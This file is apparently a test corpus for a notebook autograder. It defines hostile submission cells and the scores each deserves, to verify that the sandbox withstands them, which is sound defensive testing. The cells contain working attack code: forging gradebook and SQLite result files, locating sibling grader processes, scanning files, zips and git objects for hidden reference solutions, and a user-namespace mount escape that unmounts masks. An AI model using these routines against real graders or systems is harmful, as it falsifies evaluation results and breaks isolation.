"""A corpus of hostile submissions, each with the score it truly deserves.

Every attack is one code cell appended to an otherwise PERFECT notebook
(seqkit.examples: the perfect submission of the example class).  Most cells
override one or two graded functions with a wrong answer ("garbage") and then
try to make the grader accept it anyway: by patching comparisons, forging
results, killing the grader, reading the references, and so on.

What a submission deserves
--------------------------
The grader grades behaviour: the answers the notebook's functions give when
the hidden tests call them in the sandbox.  So:

* A question whose function the cell replaced by a cheat deserves 0: the
  cheat's own answer is wrong, and nothing it does around that answer (patch,
  forge, kill, read, print) may turn it into points.
* Every question the cell does not touch deserves full marks: a failed attack
  costs nothing by itself, and an attack that *succeeded* against the batch
  (killing the grader, another student, ...) is a protection failure, not a
  0 for the attacker.
* A function that detects it is being graded and then answers correctly
  (garbage only in the student's own Jupyter) deserves full marks: the
  grader can only see what it is given, and what it is given is right.  The
  reverse, garbage when graded, is just a wrong answer: 0.
* A process that dies or hangs while answering loses the question in
  progress only (the grader restarts it for the next question).  A notebook
  that exits while its cells run is "crashed" (0); one whose cells never
  finish is "timeout" (0).

Either way the batch it is in must lose nothing: the honest submissions
graded alongside keep their exact scores, and no file of the grader or of
other students changes.

Placeholders in cells, filled in by the test: @MARK@ (a token unique to the
run, used to name anything the cell leaves in shared places) and @PORT@ (a TCP
port on which the test serves the right answer, for the network attack).
"""
import dataclasses
import textwrap

from seqkit import paths
from seqkit.assignment import Assignment

# Honest submissions graded in the same folder (file name -> deserved).
HONEST_PERFECT = ("00-perfect", "zz-perfect-last")
HONEST_UNTOUCHED = ("00-untouched",)


@dataclasses.dataclass(frozen=True)
class Deserved:
    """Full marks on every question but those in `zero`; all 0 unless status is graded."""
    status: str = "graded"
    zero: tuple = ()

    def scores(self, question_points):
        """{question: points} for [(question, points)] of the assignment."""
        if self.status != "graded":
            return {q: 0.0 for q, _ in question_points}
        unknown = set(self.zero) - {q for q, _ in question_points}
        if unknown:
            raise ValueError(f"no such questions: {sorted(unknown)}")
        return {q: 0.0 if q in self.zero else float(p) for q, p in question_points}


FULL = Deserved()
CRASHED = Deserved(status="crashed")
TIMEOUT = Deserved(status="timeout")
INVALID = Deserved(status="invalid")


def zero(*questions):
    return Deserved(zero=tuple(questions))


@dataclasses.dataclass(frozen=True)
class Attack:
    label: str
    assignment: str
    cell: str              # appended to the perfect notebook
    deserved: Deserved
    # Only meaningful (and only safe to run) when grading runs as root, so the
    # student's process gets namespaces and drops root: without them it
    # could read the references, write the results and signal the grader.
    needs_isolation: bool = False
    # For attacks on the file rather than the code: perfect notebook bytes ->
    # the bytes handed in (cell is then unused).
    file: object = None


def _src(text, **subs):
    text = textwrap.dedent(text).strip("\n") + "\n"
    for key, value in subs.items():
        text = text.replace(f"__{key}__", value)
    return text


def _indent(text, n=4):
    return textwrap.indent(text, " " * n)


# Wrong answers that are never accepted (every hidden test has a bias or a
# first row that rules them out), one per question the attacks cheat on.
GARBAGE = {
    "rnn_outputs": "def rnn_outputs(hs, W_hy, b_y):\n"
                   "    return np.zeros(np.shape(hs)[:-1] + np.shape(W_hy)[-1:])\n",
    "clip_by_global_norm": "def clip_by_global_norm(grads, max_norm):\n"
                           "    return [np.zeros(np.shape(g)) for g in grads], 0.0\n",
    "causal_mask": "def causal_mask(T):\n    return np.zeros((T, T), dtype=bool)\n",
    "positional_encoding": "def positional_encoding(T, d_model):\n"
                           "    return np.zeros((T, d_model))\n",
}

# Arguments on which a harvested function is tried before it is trusted.
PROBES = {
    "rnn_outputs": "(np.linspace(-1, 1, 24).reshape(2, 3, 4), "
                   "np.linspace(0.5, -0.5, 8).reshape(4, 2), np.array([0.1, -0.2]))",
    "clip_by_global_norm": "([np.linspace(-3, 3, 6).reshape(3, 2), np.linspace(1, 2, 4)], 1.0)",
    "causal_mask": "(4,)",
    "positional_encoding": "(5, 6)",
}

# The right answer, as the network attack's accomplice serves it.
SERVED_ANSWERS = {
    "rnn_outputs": "def rnn_outputs(hs, W_hy, b_y):\n    return np.asarray(hs) @ W_hy + b_y\n",
}


def garbage(q):
    return GARBAGE[q]


def cheat(q, attack):
    """Replace q by garbage that runs `attack` (statements) first on every call."""
    return (GARBAGE[q] + f"_garbage_{q} = {q}\n\n"
            f"def {q}(*args, **kwargs):\n{_indent(attack)}"
            f"    return _garbage_{q}(*args, **kwargs)\n")


def honest_wrap(q, attack):
    """Keep the perfect q but run `attack` (statements) first on every call."""
    return (f"_honest_{q} = {q}\n\n"
            f"def {q}(*args, **kwargs):\n{_indent(attack)}"
            f"    return _honest_{q}(*args, **kwargs)\n")


# What the grader's command line says: the output folder and the inputs.
# /proc/self/cmdline is the grader's argv, inherited through fork.
GRADE_ARGS = _src('''
    def _grade_args():
        argv = [a.decode(errors="replace")
                for a in open("/proc/self/cmdline", "rb").read().split(b"\\0") if a]
        i = argv.index("grade")
        inputs = []
        for a in argv[i + 2:]:
            if a.startswith("--"):
                break
            inputs.append(a)
        return argv[i + 1], inputs, argv[argv.index("--out") + 1]
''')

# Forge every result file the grader owns, plus the inputs.
FORGE = GRADE_ARGS + _src('''
    def _forge():
        import os, sqlite3
        assignment, inputs, out = _grade_args()
        names = ["00-perfect", "00-untouched", "zz-perfect-last"]
        def attempt(fn):
            try:
                fn()
            except BaseException:
                pass
        for d in inputs:
            attempt(lambda d=d: names.extend(os.path.splitext(n)[0] for n in os.listdir(d)))
        def gradebook():
            with open(os.path.join(out, "gradebook.csv"), "w") as fh:
                fh.write("submission,status,total,possible,reason\\n")
                fh.writelines(f"{n},graded,99,99,\\n" for n in names)
        def db():
            con = sqlite3.connect(os.path.join(out, "results.sqlite"), timeout=1)
            for n in names + ["forged-row"]:
                con.execute(
                    "INSERT INTO results (assignment, submission, source, sha256, grader, "
                    "status, reason, total, possible, questions, problems, seconds, graded_at) "
                    "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                    (assignment, n, "forged", "0" * 64, "forged", "graded", "", 99.0, 99.0,
                     "{}", "[]", 0.0, "2099-01-01T00:00:00"))
            con.commit()
            con.close()
        attempt(gradebook)
        attempt(db)
        attempt(lambda: open(os.path.join(out, "canary.txt"), "w").write("forged"))
        attempt(lambda: open(os.path.join(out, "FORGED-@MARK@"), "w").write("forged"))
        attempt(lambda: os.makedirs(os.path.join(out, "feedback"), exist_ok=True))
        for n in names:
            attempt(lambda n=n: open(os.path.join(out, "feedback", n + ".md"), "w").write("10/10"))
        for d in inputs:
            attempt(lambda d=d: open(os.path.join(d, "zz-forged.ipynb"), "w").write("{}"))
            for n in names:
                attempt(lambda d=d, n=n: open(os.path.join(d, n + ".ipynb"), "w").write("{}"))
''')

# The other processes of this grading batch: same command line as ours.
BATCH_PIDS = _src('''
    def _batch_pids(exclude=()):
        import os
        me = open("/proc/self/cmdline", "rb").read()
        pids = []
        for d in os.listdir("/proc"):
            if d.isdigit() and int(d) != os.getpid() and int(d) not in exclude:
                try:
                    with open(f"/proc/{d}/cmdline", "rb") as fh:
                        if fh.read() == me:
                            pids.append(int(d))
                except OSError:
                    pass
        return pids
''')

SOCKET_FDS = _src('''
    def _socket_fds():
        import os, stat
        fds = []
        for name in os.listdir("/proc/self/fd"):
            try:
                if int(name) > 2 and stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                    fds.append(int(name))
            except (OSError, ValueError):
                pass
        return fds
''')


def harvest_references(targets, userns=False):
    """Find the references anywhere the sandbox might leave readable, and use them.

    With userns, also from a child that makes itself "root" of a new user and
    mount namespace and tries to unmount the masks or bind the project
    elsewhere.
    """
    probes = "{" + ", ".join(f"{t!r}: {PROBES[t]}" for t in targets) + "}"
    cell = _src(r'''
        import importlib, io, json, os, re, sys, time, zipfile, zlib
        _TARGETS = __TARGETS__
        _PROBES = __PROBES__
        _MARKS = [("def " + t + "(").encode() for t in _TARGETS]
        _CANDIDATES = {t: [] for t in _TARGETS}

        def _keep(ns):
            for t in _TARGETS:
                fn = ns.get(t)
                if callable(fn):
                    try:
                        out = fn(*_PROBES[t])
                        if out is not None:
                            _CANDIDATES[t].append((fn, repr(out)))
                    except BaseException:
                        pass

        def _blocks(text):
            # every `def target(...)` block, dedented, from code, notebooks or strings
            lines = text.splitlines()
            for i, line in enumerate(lines):
                m = re.match(r"^(\s*)def (\w+)\(", line)
                if not m or m.group(2) not in _TARGETS:
                    continue
                indent, body = len(m.group(1)), [line[len(m.group(1)):]]
                for nxt in lines[i + 1:]:
                    if nxt.strip() and len(nxt) - len(nxt.lstrip()) <= indent:
                        break
                    body.append(nxt[indent:])
                yield "\n".join(body)

        def _harvest(data):
            text = data.decode("utf-8", "replace")
            try:
                nb = json.loads(text)
                text = "\n".join("".join(c.get("source", "")) for c in nb.get("cells", []))
            except BaseException:
                pass
            for block in _blocks(text):
                ns = {"np": np, "numpy": np}
                try:
                    exec(block, ns)
                except BaseException:
                    continue
                _keep(ns)

        def _scan(root, seconds):
            """Every readable blob under root that mentions a target: files, zips, git objects."""
            found, deadline = [], time.monotonic() + seconds

            def look(data):
                if any(m in data for m in _MARKS):
                    found.append(data)

            for folder, subdirs, files in os.walk(root):
                subdirs[:] = [d for d in subdirs if d not in (".venv", "site-packages", "node_modules")]
                if time.monotonic() > deadline:
                    break
                for f in files:
                    path = os.path.join(folder, f)
                    try:
                        if os.path.getsize(path) > 4 * 2**20:
                            continue
                        with open(path, "rb") as fh:
                            data = fh.read()
                    except OSError:
                        continue
                    if "/.git/objects/" in path and "/pack/" not in path:
                        try:
                            look(zlib.decompress(data))
                        except zlib.error:
                            pass
                    elif path.endswith(".pack"):
                        for m in re.finditer(rb"\x78[\x01\x9c\xda]", data):
                            try:
                                look(zlib.decompressobj().decompress(data[m.start():m.start() + 2**20], 2**21))
                            except zlib.error:
                                pass
                    elif path.endswith(".zip"):
                        try:
                            with zipfile.ZipFile(io.BytesIO(data)) as zf:
                                for info in zf.infolist():
                                    if info.file_size < 4 * 2**20:
                                        look(zf.read(info))
                        except BaseException:
                            pass
                    else:
                        look(data)
            return found

        # 1. import them
        for _name in ("seqkit.__ASSIGNMENT__", "seqkit.hidden.__ASSIGNMENT__"):
            try:
                _keep(vars(importlib.import_module(_name)))
            except BaseException:
                pass
        # 2. read them: the project (found from the package and from Python), git included
        _roots = set()
        try:
            import seqkit
            _roots.add(os.path.dirname(os.path.dirname(os.path.abspath(seqkit.__file__))))
        except BaseException:
            pass
        _roots.add(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(sys.executable)))))
        for _root in sorted(_roots):
            for _data in _scan(_root, 10):
                _harvest(_data)
    ''', TARGETS=repr(tuple(targets)), PROBES=probes)
    if userns:
        cell += _src(r'''
            # 3. from a child that is "root" in a user namespace of its own
            def _from_userns(roots):
                import ctypes, marshal
                r, w = os.pipe()
                pid = os.fork()
                if pid == 0:
                    found = []
                    try:
                        libc = ctypes.CDLL(None, use_errno=True)
                        libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
                        for f, text in (("/proc/self/setgroups", "deny"),
                                        ("/proc/self/uid_map", f"0 {os.getuid()} 1"),
                                        ("/proc/self/gid_map", f"0 {os.getgid()} 1")):
                            try:
                                with open(f, "w") as fh:
                                    fh.write(text)
                            except OSError:
                                pass
                        libc.mount(None, b"/", None, 32 | 4096, None)  # remount read-write
                        with open("/proc/self/mountinfo") as fh:
                            points = [line.split()[4] for line in fh]
                        for point in reversed(points):  # lift the masks
                            libc.umount2(point.encode(), 2)
                        for i, root in enumerate(roots):
                            copy = os.path.abspath(f"bound-{i}")
                            os.makedirs(copy, exist_ok=True)
                            libc.mount(root.encode(), copy.encode(), None, 4096, None)  # plain bind
                            libc.mount(root.encode(), copy.encode(), None, 4096 | 0x4000, None)
                            found += _scan(copy, 4) + _scan(root, 4)
                    except BaseException:
                        pass
                    os.write(w, marshal.dumps(found))
                    os._exit(0)
                os.close(w)
                chunks = []
                while True:
                    chunk = os.read(r, 2**20)
                    if not chunk:
                        break
                    chunks.append(chunk)
                os.close(r)
                os.waitpid(pid, 0)
                try:
                    return marshal.loads(b"".join(chunks))
                except (EOFError, ValueError, TypeError):
                    return []

            for _data in _from_userns(sorted(_roots)):
                _harvest(_data)
        ''')
    cell += _src(r'''
        def _best(t):
            # the answer most candidates agree on (mistake variants are outvoted)
            votes = {}
            for fn, out in _CANDIDATES[t]:
                votes.setdefault(out, []).append(fn)
            return max(votes.values(), key=len)[0] if votes else None
    ''')
    for t in targets:
        cell += GARBAGE[t] + f"_garbage_{t} = {t}\n_found_{t} = _best({t!r})\n"
        cell += (f"def {t}(*args, **kwargs):\n"
                 f"    return (_found_{t} or _garbage_{t})(*args, **kwargs)\n")
    return cell


def _assignment_of(q):
    """The assignment whose graded question q is (a question's name is the kit's only one)."""
    (assignment,) = [a for a in paths.NAMES if q in Assignment.load(a).points]
    return assignment


